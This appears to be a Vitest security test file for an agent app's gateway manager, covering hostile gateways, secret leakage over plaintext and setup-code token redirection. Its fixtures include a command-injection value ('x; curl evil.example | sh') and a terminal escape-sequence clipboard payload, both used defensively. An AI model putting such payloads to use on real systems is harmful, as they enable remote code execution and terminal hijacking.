import { afterEach, describe, expect, it } from 'vitest';
import { GATEWAY_CALLS, type GatewaySettings } from '#shared/app-api/index.ts';
import { toBase64Url, toUtf8 } from '#shared/bytes/index.ts';
import type { GatewayToAdd } from '#agent/openclaw/gateways/index.ts';
import { gatewaySettings, type Reply } from '#test/support/scripted-gateways.ts';
import { Lab, NODE_ONLY, TOKEN } from './lab.ts';

const FIRST = '11'.repeat(32);
const HOUR = 60 * 60_000;
const signal = new AbortController().signal;

let lab: Lab;
afterEach(() => lab.manager.close());

describe('a gateway that was taken over', () => {
  it.each([Number.MAX_VALUE, 1e17])(
    'cannot make the list of all gateways unreadable by having run for %s ms [S-GW-7]',
    async (uptime) => {
      lab = new Lab();
      lab.machine.reply = () => ({ kind: 'hello', uptime });
      const id = lab.add();
      await lab.clock.advance(1000);
      expect(lab.manager.view(id)).toMatchObject({ operator: { state: 'connected' }, server: { startedAt: null } });
      expect(GATEWAY_CALLS['gateways.list'].output.safeParse(lab.manager.views()).success).toBe(true);
    },
  );

  it('that says at each welcome that it restarts is asked less and less [S-GW-7]', async () => {
    lab = new Lab();
    const shutdown = { event: 'shutdown', payload: { reason: 'restart', restartExpectedMs: 0 } };
    const reply: Reply = { kind: 'hello', deviceToken: 'token', lives: 10, code: 1012, events: [shutdown] };
    lab.machine.reply = () => reply;
    lab.add();
    await lab.clock.advance(2 * HOUR);
    expect(lab.machine.attempts.length).toBeLessThan((2 * HOUR) / 9000);
  });

  it('says nothing that a terminal or a window takes for more than words [S-GW-7]', async () => {
    lab = new Lab();
    const id = lab.add();
    await lab.clock.advance(1000);
    const message = 'no \u001b]52;c;ZXZpbA==\u0007\u202etxt';
    lab.machine.respond = () => ({ refused: { code: 'UNAVAILABLE', message } });
    await expect(lab.manager.channel(id, 'operator')?.request('health', {})).rejects.toMatchObject({
      details: { message: 'no ⟨U+001B⟩]52;c;ZXZpbA==⟨U+0007⟩⟨U+202E⟩txt' },
    });
  });

  it.each<[string, Reply]>([
    ['connected', { kind: 'hello' }],
    ['never content', { kind: 'hello', lives: 10, code: 4001 }],
    ['silent', { kind: 'silent' }],
    ['waiting for an approval', { kind: 'refuse', detail: 'PAIRING_REQUIRED', more: { requestId: 'request-1' } }],
    ['limiting', { kind: 'refuse', detail: 'AUTH_RATE_LIMITED', retryAfterMs: 3_600_000 }],
  ])('leaves no timer and no socket behind when it is removed while it is %s [S-GW-7]', async (_name, reply) => {
    lab = new Lab();
    const { manager, machine, clock } = lab;
    await clock.advance(1000);
    const before = clock.pending;
    machine.reply = () => reply;
    lab.commands = ['system.which'];
    // Requests are never answered.
    machine.respond = () => undefined;
    const ids = Array.from({ length: 8 }, (_, at) => lab.add({ name: `Lab ${at}`, node: { ...NODE_ONLY.node } }));
    await clock.advance(5000);
    for (const id of ids) manager.remove(id);
    await clock.advance(60_000);
    expect(machine.sockets.size).toBe(0);
    expect(clock.pending).toBe(before);
    const attempts = machine.opened.length;
    await clock.advance(2 * HOUR);
    expect(machine.opened).toHaveLength(attempts);
  });

  it('puts no command into the one that a person copies to approve what this node offers [S-GW-7]', async () => {
    lab = new Lab();
    lab.commands = ['system.which'];
    lab.machine.respond = (method) =>
      method === 'node.describe'
        ? { approvalState: 'pending-approval', commands: [], pendingRequestId: 'x; curl evil.example | sh' }
        : {};
    const id = lab.add({ node: NODE_ONLY.node });
    await lab.clock.advance(5000);
    expect(lab.manager.view(id).surface).toMatchObject({ state: 'pending', requestId: null });
  });
});

describe('secrets of one gateway', () => {
  it('are not told in the clear to whoever answers where it is moved to without TLS [S-GW-5]', async () => {
    lab = new Lab();
    const { manager, machine, clock } = lab;
    machine.reply = () => ({ kind: 'hello', deviceToken: 'device-token' });
    const id = lab.add({ fingerprint: FIRST }, { token: TOKEN, password: 'password-of-the-lab' });
    await clock.advance(1000);
    const before = machine.sent.length;
    const endpoint = { host: '10.0.0.66', port: 18_789, tls: false, path: '/' };
    const settings = { ...manager.view(id).settings, endpoint, fingerprint: null };
    expect(() => manager.update(id, settings, {})).toThrow(
      expect.objectContaining({ code: 'gateway.plain-unconfirmed' }),
    );
    expect(manager.update(id, settings, { acceptPlain: true })).toMatchObject({ hasToken: false, hasPassword: false });
    await clock.advance(HOUR);
    const said = machine.sent.slice(before).join('\n');
    for (const secret of [TOKEN, 'password-of-the-lab', 'device-token']) expect(said).not.toContain(`"${secret}"`);
    // What is given for that place goes there.
    manager.update(
      id,
      { ...settings, endpoint: { ...endpoint, port: 80 } },
      {
        token: 'token-for-there',
        acceptPlain: true,
      },
    );
    await clock.advance(1000);
    expect(machine.attempts.at(-1)?.auth).toEqual({ token: 'token-for-there' });
  });

  const PLACE = { host: '127.0.0.1', port: 18_789, tls: true, path: '/' };
  const SETUP = { url: 'wss://127.0.0.1:18789', bootstrapToken: 'bootstrap-secret', tlsFingerprint: FIRST };
  const read = async (changes: Partial<GatewaySettings>): Promise<GatewayToAdd> => {
    lab = new Lab();
    const { draft } = await lab.manager.read(toBase64Url(toUtf8(JSON.stringify(SETUP))), signal);
    return { settings: gatewaySettings({ ...NODE_ONLY, fingerprint: FIRST, ...changes }), draft };
  };

  it.each<[string, Partial<GatewaySettings>]>([
    ['the place that it names', {}],
    ['another port of it', { endpoint: { ...PLACE, port: 443 } }],
    ['another address with the certificate that it names', { endpoint: { ...PLACE, host: '10.0.0.4' } }],
  ])('are shown, where they are of a setup code, at %s', async (_name, changes) => {
    const wanted = await read(changes);
    lab.manager.add(wanted);
    await lab.clock.advance(1000);
    expect(lab.machine.attempts[0]?.auth).toEqual({ bootstrapToken: 'bootstrap-secret' });
  });

  it.each<[string, Partial<GatewaySettings>]>([
    ['another host', { endpoint: { ...PLACE, host: 'evil.local' }, fingerprint: '66'.repeat(32) }],
    ['another host that the system trusts', { endpoint: { ...PLACE, host: 'evil.example' }, fingerprint: null }],
    ['their own without TLS', { endpoint: { ...PLACE, tls: false }, fingerprint: null }],
  ])('are not taken from a setup code to %s [S-GW-5]', async (_name, changes) => {
    const wanted = await read(changes);
    expect(() => lab.manager.add(wanted)).toThrow(expect.objectContaining({ code: 'gateway.draft-elsewhere' }));
    expect(lab.manager.list()).toEqual([]);
  });
});
